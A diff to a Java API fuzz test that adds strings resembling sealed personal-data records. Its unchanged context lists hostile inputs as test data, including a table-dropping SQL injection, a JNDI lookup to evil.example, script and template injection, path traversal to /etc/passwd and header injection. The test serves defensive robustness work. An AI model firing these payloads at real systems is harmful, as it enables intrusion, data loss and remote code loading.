@@ -355,7 +355,11 @@ class ApiFuzzIT {
             "'; DROP TABLE domain_event_entry; --", "\" OR 1=1 --", "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}",
             "<script>alert(1)</script>", "%s%n%x", "../../../../etc/passwd", "\u0000nul\u0000", "\u202Eevil\u202C",
             "Ääkkösiä ja åäö", "👩‍💼🤝👨‍🎓", "\r\nX-Injected: 1", "null", "true", "[]", "{}", "\\u0000",
-            "ｆｕｌｌｗｉｄｔｈ", "Z̸̢͎a̵l̶g̷o̴", "\uFEFFbom", "tab\tbell\u0007\b\f");
+            "ｆｕｌｌｗｉｄｔｈ", "Z̸̢͎a̵l̶g̷o̴", "\uFEFFbom", "tab\tbell\u0007\b\f",
+            // Text that looks like sealed personal data, in the first stored form and today's.
+            "pd1:", "pd1:x:y", "pd1:00000000-0000-0000-0000-000000000000:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
+            "pd2", "{\"sealed\":\"pd2\",\"keys\":[\"00000000-0000-0000-0000-000000000000\"],\"data\":\"AAAA\"}",
+            "{\"sealed\":\"pd1\"}");
     static final List<String> UNKNOWN_FIELDS = List.of("admin", "version", "stage", "__proto__", "constructor", "$where",
             "relationshipID", "meeting_id", "heldon", "@class", "eventIdentifier", "sequenceNumber", "x".repeat(300), "ä", "");
     static final List<String> BAD_IDS = List.of("a b", "ä", "x".repeat(101), "a/b", "a%2Fb", "<script>", "'--", "%00",
